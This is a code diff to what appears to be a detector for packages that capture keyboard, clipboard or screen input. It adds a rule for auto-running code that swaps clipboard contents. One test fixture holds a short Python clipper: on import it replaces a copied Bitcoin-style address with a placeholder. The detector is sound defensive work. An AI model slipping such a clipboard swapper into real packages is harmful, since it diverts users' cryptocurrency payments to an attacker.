@@ -10,7 +10,8 @@ Passwords, seeds of wallets and addresses of payments pass through keyboard and 
 for something else has no reason to look there by itself.
 
 ## What it misses
-Key events inside a web page or a terminal program, which every form and every prompt handles; hooks in native code.
+Key events inside a web page that stay there, and those of a terminal program, which every form and every prompt
+handles; hooks in native code.
 
 ## References
 - MITRE ATT&CK T1056.001, Keylogging; T1115, Clipboard Data; T1113, Screen Capture
@@ -30,6 +31,7 @@ CARD = Card(
     title="Keyboard, clipboard or screen taken",
     variants={
         "taken-away": "What the user types, copies or sees goes to the network.",
+        "exchanged": "Code that runs by itself reads the clipboard and puts something else there.",
         "autorun": "Code that runs by itself takes what the user types, copies or sees, as no earlier release did.",
         "call": "A function takes what the user types, copies or sees; no earlier release did anywhere.",
         "first-contact": "There is no earlier release; code that runs by itself takes it.",
@@ -38,6 +40,9 @@ CARD = Card(
     why="Passwords and payments pass through keyboard and clipboard.",
     attack=("T1195.002", "T1056.001", "T1115", "T1113"),
 )
+
+EXCHANGED = "clipboard exchanged"
+"""The value of the fact that something was put into a clipboard that had been read."""
 
 _BEFORE = {"package.json": package_json("1.0.0"), "index.js": "module.exports = (a) => a;\n"}
 _PASTE = (
@@ -67,6 +72,17 @@ EXAMPLES = (
         },
         expect="autorun",
         at="pad/__init__.py:2",
+    ),
+    Example(
+        title="a Python package exchanges what was copied",
+        ecosystem="pypi",
+        before={"pad/__init__.py": "WIDTH = 2\n"},
+        after={
+            "pad/__init__.py": "import pyperclip\nif pyperclip.paste().startswith('bc1'):\n"
+            "    pyperclip.copy('bc1qexample')\nWIDTH = 2\n"
+        },
+        expect="exchanged",
+        at="pad/__init__.py:3",
     ),
     Example(
         title="first contact with an install script that reads the clipboard by a command",
@@ -106,6 +122,7 @@ EXAMPLES = (
 
 _MESSAGES = {
     "taken-away": "sends to the network what the user types, copies or sees",
+    "exchanged": "reads the clipboard and puts something else there, without being called",
     "autorun": "takes what the user types, copies or sees, without being called",
     "call": "takes what the user types, copies or sees when it is called, the first in this line",
     "first-contact": "takes what the user types, copies or sees, without being called",
@@ -128,6 +145,7 @@ def detect(update: Update) -> Iterator[Finding]:
             if chain.data and (pair.before is not None or runs_by_itself(chain.sink)):
                 _tell(tally, "taken-away", pair, chain.source, chain.sink)
         had = _watched(pair.before) if pair.before else frozenset()
+        exchanged = {placed.path for placed in pair.after.placed if _exchanges(placed)}
         for placed in pair.gained(Kind.USER_WATCH, Kind.PROCESS_SPAWN):
             if not watches(placed) or (placed.path, placed.fact) in gone:
                 continue
@@ -135,7 +153,10 @@ def detect(update: Update) -> Iterator[Finding]:
             if pair.before is None and alone:
                 _tell(tally, "first-contact", pair, placed)
             elif pair.before is not None and (True not in had if alone else not had):
-                _tell(tally, "autorun" if alone else "call", pair, placed)
+                if not alone or placed.path not in exchanged:
+                    _tell(tally, "autorun" if alone else "call", pair, placed)
+                elif _exchanges(placed):
+                    _tell(tally, "exchanged", pair, placed)
     yield from tally.findings(_MESSAGES)
 
 
@@ -144,6 +165,11 @@ def watches(placed: Placed) -> bool:
     if placed.fact.kind is Kind.USER_WATCH:
         return True
     return placed.fact.kind is Kind.PROCESS_SPAWN and _pattern().search(placed.fact.value or "") is not None
+
+
+def _exchanges(placed: Placed) -> bool:
+    """Whether a place, without being called, puts something into a clipboard that was read."""
+    return placed.fact.kind is Kind.USER_WATCH and placed.fact.value == EXCHANGED and runs_by_itself(placed)
 
 
 def _tell(tally: Tally, variant: str, pair: Pair, *places: Placed) -> None:
